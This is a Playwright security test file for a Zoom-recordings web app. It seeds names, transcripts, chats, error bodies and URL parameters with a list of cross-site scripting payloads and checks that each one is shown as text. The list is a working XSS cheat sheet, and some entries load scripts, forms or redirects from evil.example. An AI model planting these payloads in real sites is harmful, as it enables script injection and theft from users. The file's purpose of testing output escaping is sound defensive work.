import type { Page } from '@playwright/test';
import { createAccount, simulatedFile } from '../../server/src/simulator/account.ts';
import { recorded, thisMonth } from '../accounts.ts';
import { expect, test } from '../fixtures.ts';
import { playerOf, readPlayback, seek } from '../player.ts';

/** What an attacker would write where Zoom lets people write: each would run, load or break out if it were ever HTML. */
const payloads = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/a.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=https://evil.example/pixel.gif>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>press</a>',
  '<a href="java&#115;cript:alert(1)">press</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<form action=https://evil.example><button>press</button></form>',
  '<button formaction=javascript:alert(1)>press</button>',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<style>@import "https://evil.example/a.css";*{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<x onpointerover=alert(1) style=position:fixed;inset:0>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload.
  '${alert(1)}',
  '__proto__',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202egpj.exe<img src=x onerror=alert(1)>',
] as const;
const everything = payloads.join(' ');

function hostileAccount() {
  const text = (type: string, content: string) =>
    simulatedFile({
      id: `hostile-${type}`,
      recording_type: type,
      content: { kind: 'bytes', bytes: Buffer.from(content) },
    });
  const lines = payloads.map(
    (payload, index) => `00:00:${String(index).padStart(2, '0')}\t${payload}:\t${payload}`,
  );
  const cues = payloads.map((payload) => `00:00:01.000 --> 00:00:09.000\r\n${payload}: ${payload}\r\n`);
  const [first] =
    recorded({ name: '', startMs: thisMonth(0.5), types: ['gallery_view'] }).recording_files ?? [];
  if (!first) throw new Error('the sample has no file');
  return createAccount([
    ...payloads.map((payload, index) =>
      recorded({
        name: payload,
        startMs: thisMonth(0.9 - index / 100),
        files: [{ ...first, id: `hostile-file-${index}`, recording_type: payload }],
        fields: { session_key: payload },
      }),
    ),
    recorded({
      name: 'texts',
      startMs: thisMonth(0.95),
      files: [
        first,
        text('audio_transcript', `WEBVTT\r\n\r\n${cues.join('\r\n')}`),
        text('chat_file', lines.join('\r\n')),
        text('summary', JSON.stringify({ summary: everything })),
      ],
      fields: {
        session_key: everything,
        participant_video_files: payloads.map((payload, index) => ({
          ...first,
          id: `hostile-participant-${index}`,
          recording_type: 'individual_user',
          file_name: payload,
          user_id: payload,
          user_key: payload,
        })),
      },
    }),
    recorded({ name: everything, startMs: thisMonth(0.3), fields: { trashed_at: new Date().toISOString() } }),
  ]);
}

test.use({ scene: { account: hostileAccount } });

/** No element and no attribute that the application did not make; the listeners of the fixture tell of the rest. */
async function isUnharmed(page: Page): Promise<void> {
  const planted = await page.evaluate(() => {
    const tags =
      'iframe, object, embed, base, marquee, math, svg script, svg animate, svg use, form[action], x';
    const elements = Array.from(document.querySelectorAll(tags), ({ outerHTML }) => outerHTML);
    const handlers = Array.from(document.querySelectorAll('*')).flatMap(({ attributes }) =>
      Array.from(attributes, ({ name }) => name).filter((name) => name.startsWith('on')),
    );
    const links = Array.from(document.links, ({ href }) => href).filter((href) => !href.startsWith('http'));
    return [...elements, ...handlers, ...links];
  });
  expect(planted).toEqual([]);
}

test('names, keys, types and participants that are HTML are shown as the text they are (V-16)', async ({
  page,
}) => {
  await page.goto('/');
  await expect(page.getByText(`${payloads.length + 1} sessions · `)).toBeVisible();
  const search = page.getByRole('textbox', { name: /^Search/ });
  for (const payload of payloads) {
    const link = page.getByRole('link', { name: payload, exact: true }).first();
    // Only rows near the window are drawn; they stand in the order of the payloads.
    await link.scrollIntoViewIfNeeded();
    await expect(link).toHaveText(payload);
  }
  await isUnharmed(page);

  // The worst of them in every place that shows them: search, detail, title, files, info.
  for (const payload of [payloads[2], payloads[4], payloads[35]]) {
    await page.goto('/');
    await search.fill(payload);
    await expect(page.getByRole('status').filter({ hasText: `'${payload}'` })).toBeVisible();
    await page
      .getByRole('button', { name: `Show files of ${payload}` })
      .first()
      .click();
    await isUnharmed(page);
    await page.getByRole('link', { name: payload, exact: true }).first().click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(payload);
    await expect(page).toHaveTitle(`${payload} · Matinee`);
    await page.getByRole('tab', { name: 'Info' }).click();
    await page.getByText('All facts as JSON').first().click();
    await expect(page.getByRole('definition').filter({ hasText: payload }).first()).toBeVisible();
    await isUnharmed(page);
  }
});

test('transcripts, chats and participants that are HTML are text too, also as captions (V-17)', async ({
  page,
}) => {
  await page.goto('/');
  await page.getByRole('link', { name: 'texts', exact: true }).click();
  for (const lane of ['Transcript', 'Chat']) {
    await page.getByRole('tab', { name: lane }).click();
    const lines = page.getByRole('list', { name: lane });
    await expect(lines).toContainText('alert(1)');
    const shown = (await lines.textContent()) ?? '';
    // WebVTT writes < and > as entities, which a chat does not.
    const asRead = (payload: string) =>
      lane === 'Chat' ? payload : payload.replaceAll('&lt;', '<').replaceAll('&gt;', '>');
    expect(payloads.filter((payload) => !shown.includes(asRead(payload)))).toEqual([]);
    await isUnharmed(page);
  }
  await page.getByRole('tab', { name: 'Files' }).click();
  for (const [name, region] of [
    ['Read Transcript', 'Transcript'],
    ['Read Chat', 'Chat'],
    [/^Read .*ummary/, /ummary/],
  ] as const) {
    await page.getByRole('button', { name }).click();
    const text = page.getByRole('region', { name: region });
    await expect(text).toContainText('alert(1)');
    const shown = await text.textContent();
    const isThere = (payload: string) =>
      shown?.includes(payload) || shown?.includes(payload.replaceAll('"', '\\"'));
    expect(payloads.filter((payload) => !isThere(payload))).toEqual([]);
    await isUnharmed(page);
    await page.getByRole('button', { name: 'All files' }).click();
  }
  for (const payload of payloads) {
    await expect(page.getByRole('complementary').getByText(payload).first()).toBeAttached();
  }
  await page.getByRole('button', { name: 'Captions, off' }).click();
  await page.getByRole('menuitemradio').nth(1).click();
  await expect(page.getByRole('button', { name: 'Captions, on' })).toBeVisible();
  await seek(page, 5);
  await isUnharmed(page);
  await playerOf(page).getByRole('button', { name: 'play' }).click();
  await expect.poll(async () => (await readPlayback(page)).seconds).toBeGreaterThan(6);
  await isUnharmed(page);
});

test('Zoom’s own words, in the trash and in its errors, stay words', async ({ page, simulator }) => {
  await page.goto('/trash');
  await expect(page.getByRole('row', { level: 1 })).toHaveCount(1);
  await isUnharmed(page);
  for (const status of [400, 401, 404, 429, 500]) {
    const laid = simulator.faults.add('api-list', {
      kind: 'status',
      status,
      body: { code: everything, message: everything, errors: [{ field: everything, message: everything }] },
      headers: { 'x-zm-trackingid': '<img src=x onerror=alert(1)>', 'retry-after': '<script>' },
    });
    await page.goto('/recordings?month=2024-02');
    await page.getByRole('button', { name: 'Refresh' }).click();
    await expect(page.getByText('What Zoom has here could not be read yet.')).toBeVisible({
      timeout: 20_000,
    });
    await isUnharmed(page);
    laid.remove();
  }
});

test('what stands in the address is text as well', async ({ page }) => {
  for (let next = 0; next < payloads.length; next += 4) {
    const [q = '', month = '', sort = '', open = ''] = payloads.slice(next, next + 4);
    await page.goto(`/recordings?${new URLSearchParams({ q, month, sort, open })}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await isUnharmed(page);
  }
  await page.goto(`/s/${encodeURIComponent(payloads[2])}?view=${encodeURIComponent(payloads[2])}`);
  await expect(page.getByRole('alert')).toBeVisible();
  await isUnharmed(page);
});
